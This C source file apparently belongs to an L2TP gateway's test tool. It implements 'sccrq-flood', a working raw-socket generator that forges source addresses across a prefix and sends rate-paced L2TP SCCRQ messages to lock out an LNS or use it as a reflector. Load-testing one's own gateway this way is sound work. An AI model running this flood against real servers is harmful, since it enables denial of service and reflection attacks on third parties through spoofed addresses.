// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * sccrq-flood: spoofed SCCRQs, as an attacker on the internet sends them
 * to lock an LNS out or to use it as a reflector.
 *
 *   l2tpgw-nltest sccrq-flood --to A:P --prefix NET/LEN --rate N
 *                 --duration SECONDS [--sources N] [--host NAME]
 *
 * Sends N SCCRQs a second for SECONDS through a raw socket (IP_HDRINCL),
 * each from another address of NET/LEN (source port 1701) with another
 * Assigned Tunnel ID.  The i-th datagram comes from the i-th of --sources
 * addresses (default: as many as the prefix holds, up to 65536), counted
 * so that consecutive ones fall in different /24s: 10.200.0.0/16 gives
 * 10.200.0.1, 10.200.1.1, ... 10.200.255.1, 10.200.0.2, ...  The SCCRQ
 * carries only what RFC 2661 requires (Host Name --host, default
 * "flood"), as an attacker keeps it short.  At the end prints
 * "sccrq-flood: sent D datagrams B bytes (IP) from S sources in T ms".
 * IPv4 only: IPv6 has no IP_HDRINCL and the prefix logic is the same.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "nltest.h"

#define FLOOD_PORT	1701
#define FLOOD_MAX_SRCS	65536u

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
}

/* The i-th source of net/len: /24s first, then the hosts in them. */
static uint32_t flood_source(uint32_t net, unsigned len, uint32_t i)
{
	uint32_t size = len >= 32 ? 1 : 1u << (32 - len);
	uint32_t nets, host;

	if (len > 24 || size < 512)
		return net + (size > 2 ? 1 + i % (size - 2) : 0);
	nets = size >> 8;
	host = 1 + (i / nets) % 254;
	return net + ((i % nets) << 8) + host;
}

static size_t put_avp(uint8_t *p, uint16_t type, const void *v, size_t n)
{
	p[0] = (uint8_t)(0x80 | (6 + n) >> 8);
	p[1] = (uint8_t)(6 + n);
	p[2] = 0;
	p[3] = 0;
	p[4] = (uint8_t)(type >> 8);
	p[5] = (uint8_t)type;
	memcpy(p + 6, v, n);
	return 6 + n;
}

/* IP + UDP + a minimal SCCRQ with Assigned Tunnel ID tid; its length. */
static size_t flood_packet(uint8_t *pkt, uint32_t src, uint32_t dst,
			   uint16_t dport, const char *host, uint16_t tid)
{
	static const uint8_t type[] = { 0, 1 }, ver[] = { 1, 0 };
	static const uint8_t framing[] = { 0, 0, 0, 3 };
	struct iphdr *ip = (struct iphdr *)pkt;
	struct udphdr *udp = (struct udphdr *)(pkt + sizeof(*ip));
	uint8_t *l2tp = pkt + sizeof(*ip) + sizeof(*udp), *p = l2tp + 12;
	uint8_t id[2] = { (uint8_t)(tid >> 8), (uint8_t)tid };
	size_t n;

	p += put_avp(p, 0, type, 2);
	p += put_avp(p, 2, ver, 2);
	p += put_avp(p, 3, framing, 4);
	p += put_avp(p, 7, host, strlen(host));
	p += put_avp(p, 9, id, 2);
	n = (size_t)(p - l2tp);
	memset(l2tp, 0, 12);
	l2tp[0] = 0xc8;
	l2tp[1] = 0x02;
	l2tp[2] = (uint8_t)(n >> 8);
	l2tp[3] = (uint8_t)n;
	memset(ip, 0, sizeof(*ip));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = htonl(src);
	ip->daddr = htonl(dst);
	ip->tot_len = htons((uint16_t)(sizeof(*ip) + sizeof(*udp) + n));
	/* The kernel fills in the IP id and checksum; UDP checksum 0: none. */
	udp->source = htons(FLOOD_PORT);
	udp->dest = htons(dport);
	udp->len = htons((uint16_t)(sizeof(*udp) + n));
	udp->check = 0;
	return sizeof(*ip) + sizeof(*udp) + n;
}

int nlt_sccrq_flood(struct l2tpctl *h, int argc, char **argv)
{
	static const char *const names[] = { "to", "prefix", "rate", "duration",
					     "sources", "host", NULL };
	const char *host, *srcs;
	char prefix[64], *slash;
	struct sockaddr_in6 ss;	/* what nlt_sockaddr fills */
	struct sockaddr_in to;
	struct nlt_opts o;
	struct in_addr net;
	unsigned long rate, duration, len, nsrc, i, total, sent = 0;
	uint64_t start, end, due, now, bytes = 0;
	uint8_t pkt[1500];
	size_t plen;
	int fd;

	nlt_parse_opts("sccrq-flood", argc, argv, names, NULL, &o, NULL, 0);
	if (nlt_sockaddr(nlt_need("sccrq-flood", &o, "to"), &ss) !=
	    sizeof(to))
		nlt_die("sccrq-flood: --to must be an IPv4 A:P");
	memcpy(&to, &ss, sizeof(to));
	snprintf(prefix, sizeof(prefix), "%s",
		 nlt_need("sccrq-flood", &o, "prefix"));
	slash = strchr(prefix, '/');
	if (!slash)
		nlt_die("sccrq-flood: --prefix \"%s\" is not NET/LEN", prefix);
	*slash = '\0';
	len = nlt_num("prefix length", slash + 1, 32);
	if (inet_pton(AF_INET, prefix, &net) != 1)
		nlt_die("sccrq-flood: --prefix: \"%s\" is no IPv4 address",
			prefix);
	rate = nlt_num("rate", nlt_need("sccrq-flood", &o, "rate"), 100000);
	duration = nlt_num("duration",
			   nlt_need("sccrq-flood", &o, "duration"), 86400);
	srcs = nlt_opt(&o, "sources");
	nsrc = srcs ? nlt_num("sources", srcs, FLOOD_MAX_SRCS) :
	       (len >= 16 ? (1ul << (32 - len)) : FLOOD_MAX_SRCS);
	if (!rate || !nsrc)
		nlt_die("sccrq-flood: --rate and --sources must be above 0");
	host = nlt_opt(&o, "host") ? nlt_opt(&o, "host") : "flood";
	if (strlen(host) > 200)
		nlt_die("sccrq-flood: --host longer than 200 bytes");
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0)
		nlt_die("sccrq-flood: raw socket: %s", strerror(errno));
	total = rate * duration;
	start = now_ns();
	end = start + (uint64_t)duration * 1000000000u;
	/*
	 * Paced: datagram i leaves i/rate seconds after the start, and none
	 * after SECONDS: a sender that falls behind (a slow machine) sends
	 * fewer, and the report's count and time say the rate it reached.
	 */
	for (i = 0; i < total && now_ns() < end; i++) {
		due = start + (uint64_t)i * 1000000000u / rate;
		/* One reading per turn: time passing between two would wrap. */
		while ((now = now_ns()) < due) {
			uint64_t left = due - now;
			struct timespec ts = { (time_t)(left / 1000000000u),
					       (long)(left % 1000000000u) };

			nanosleep(&ts, NULL);
		}
		plen = flood_packet(pkt, flood_source(ntohl(net.s_addr) &
						      (len ? ~0u << (32 - len)
							   : 0),
						      (unsigned)len,
						      (uint32_t)(i % nsrc)),
				    ntohl(to.sin_addr.s_addr),
				    ntohs(to.sin_port), host,
				    (uint16_t)(i % 65535 + 1));
		if (sendto(fd, pkt, plen, 0, (struct sockaddr *)&to,
			   sizeof(to)) < 0) {
			if (errno == ENOBUFS || errno == EAGAIN)
				continue;
			nlt_die("sccrq-flood: sendto: %s", strerror(errno));
		}
		bytes += plen;
		sent++;
	}
	printf("sccrq-flood: sent %lu datagrams %llu bytes (IP) from %lu "
	       "sources in %llu ms\n", sent, (unsigned long long)bytes,
	       nsrc < sent ? nsrc : sent,
	       (unsigned long long)((now_ns() - start) / 1000000u));
	close(fd);
	return 0;
}
